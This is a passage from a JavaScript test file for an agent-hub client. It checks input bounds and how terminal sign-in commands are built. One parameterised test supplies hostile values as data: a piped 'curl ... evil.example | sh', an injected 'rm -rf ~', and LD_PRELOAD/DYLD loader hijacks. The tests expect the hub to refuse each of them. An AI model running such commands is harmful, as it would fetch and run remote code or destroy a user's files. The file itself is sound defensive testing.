  it('refuses a file of control characters whose answer would grow six-fold, with -32602 and a reason', async () => {
    const root = mkdtempSync(join(tmpdir(), 'switchboard-fs-'));
    writeFileSync(join(root, 'controls.bin'), Buffer.alloc(5 * 1024 * 1024, 1));
    const { puppet } = await session(V1_INIT_RESULT, root);
    await puppet.send({ id: 31, method: 'fs/read_text_file', params: { sessionId: 'sess-1', path: join(root, 'controls.bin') } });
    expect((await puppet.responseTo(31, 15_000)).error).toMatchObject({ code: -32602, message: expect.stringContaining('not plain text') });
  });
});

describe('what initialize tells about the agent is bounded', () => {
  // The brief: every agent input is bounded by a named constant. Each sign-in method is a menu item, and the agent's
  // view (with every method) goes to the renderer on each change of the agent's status.
  it('keeps MAX_AUTH_METHODS sign-in methods, cuts names and descriptions, leaves out an id too long to send back, and cuts the agent info', async () => {
    rig = await startRig([{ id: 'a' }]);
    const { hub, puppets } = rig;
    const long = 'n'.repeat(10_000);
    await handshake(hub, puppets[0], 'a', {
      protocolVersion: 2,
      info: { name: long, title: long, version: long },
      capabilities: {},
      authMethods: [
        { methodId: 'i'.repeat(MAX_LABEL_CHARS + 1), name: 'Too long an id' },
        { methodId: 'login', name: long, description: long },
        ...Array.from({ length: 5000 }, (_, i) => ({ methodId: `m${i}`, name: `Method ${i}` })),
      ],
    });
    const view = agentView(hub, 'a');
    expect(view.authMethods).toHaveLength(MAX_AUTH_METHODS - 1);
    expect(view.authMethods[0]).toMatchObject({ methodId: 'login' });
    expect(view.authMethods[0].name).toHaveLength(MAX_LABEL_CHARS);
    expect(view.authMethods[0].description).toHaveLength(MAX_DESCRIPTION_CHARS);
    expect(view.agentInfo?.name).toHaveLength(MAX_LABEL_CHARS);
    expect(view.agentInfo?.title).toHaveLength(MAX_LABEL_CHARS);
    expect(view.agentInfo?.version).toHaveLength(MAX_LABEL_CHARS);
  });
});

describe('terminal sign-in', () => {
  it('advertises terminal sign-in and shows the command a terminal method needs, instead of calling it', async () => {
    rig = await startRig([{ id: 'a' }]);
    const { hub, puppets } = rig;
    const init = await puppets[0].next((m) => m.method === 'initialize');
    expect(init.params.capabilities.auth).toEqual({ terminal: {} });
    expect(init.params.clientCapabilities.auth).toEqual({ terminal: true });
    await handshake(hub, puppets[0], 'a', {
      protocolVersion: 2,
      info: { name: 'p', version: '1' },
      capabilities: {},
      authMethods: [{ methodId: 'login', type: 'terminal', name: 'Log in', args: ['--login', 'it is me'], env: [{ name: 'MODE', value: 'tty' }] }],
    });
    const [method] = hub.snapshot().agents[0].authMethods;
    expect(method.methodId).toBe('login');
    expect(method.terminalCommand).toMatch(/^MODE=tty .*puppet-agent\.mjs --login 'it is me'$/);
    await expect(hub.invoke('authenticate', { agentId: 'a', methodId: 'login' })).rejects.toThrow(/run this in a terminal/);
    expect(puppets[0].received.some((m) => m.method === 'auth/login')).toBe(false);
  });

  // No spec rule covers terminal sign-in; the brief's: bad agent input gets one plain sentence, nothing run.
  // The method's env names, args and values come from the agent, and the line is pasted into a shell.
  it.each([
    ['a name that is shell syntax', { name: 'X=1; curl -s https://evil.example/p | sh; Y', value: 'z' }, [], /a name no shell accepts/],
    ['a name holding a line break', { name: 'A\nrm -rf ~/important\nB', value: 'v' }, [], /a name no shell accepts/],
    ['a loader variable', { name: 'LD_PRELOAD', value: '/tmp/evil.so' }, [], /LD_PRELOAD, which would make the command load code/],
    ['a macOS loader variable', { name: 'DYLD_INSERT_LIBRARIES', value: '/tmp/evil.dylib' }, [], /DYLD_INSERT_LIBRARIES/],
    ['a line break in an argument', { name: 'MODE', value: 'tty' }, ['--login\nrm -rf ~'], /control characters/],
    ['an escape sequence in a value', { name: 'MODE', value: 'tty\u001b[8m' }, [], /control characters/],
    ['a command too long to read', { name: 'MODE', value: 'tty' }, ['x'.repeat(5000)], /its command is longer than 4096 characters/],
  ])('refuses a terminal method with %s, in one sentence, and shows no command', async (_, env, args, why) => {
    rig = await startRig([{ id: 'a', name: 'Agent A' }]);
    const { hub, puppets } = rig;
    await handshake(hub, puppets[0], 'a', {
      protocolVersion: 2,
      info: { name: 'p', version: '1' },
      capabilities: {},
      authMethods: [{ methodId: 'login', type: 'terminal', name: 'Log in', args, env: [env] }],
    });
    const [method] = hub.snapshot().agents[0].authMethods;
    expect(method.terminalCommand).toBeUndefined();
    expect(method.description).toMatch(why);
    expect(method.description).toMatch(/^Agent A's terminal sign-in was refused: [^\n]*\.$/);
    await expect(hub.invoke('authenticate', { agentId: 'a', methodId: 'login' })).rejects.toThrow(why);
    expect(puppets[0].received.some((m) => m.method === 'auth/login')).toBe(false);
  });
});
